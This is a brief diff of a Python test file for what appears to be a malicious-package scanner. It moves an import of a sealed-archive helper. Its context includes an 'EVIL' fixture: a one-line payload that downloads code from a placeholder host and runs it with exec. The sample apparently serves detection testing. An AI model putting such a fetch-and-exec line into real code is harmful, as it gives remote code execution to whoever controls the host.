@@ -10,10 +10,10 @@ import pytest
 
 from antivenom.rules.book import PAGES
 from antivenom.rules.page import read_page
+from antivenom.store.sealed import seal as sealed_zip
 from bench import corpus, evidence, kept, measure, page
 from bench.__main__ import main
 from tests.builders.archives import sdist, wheel
-from tests.builders.sealed import sealed_zip
 
 EVIL = b"import os, urllib.request\nexec(urllib.request.urlopen('https://stage.invalid').read())\n"
 
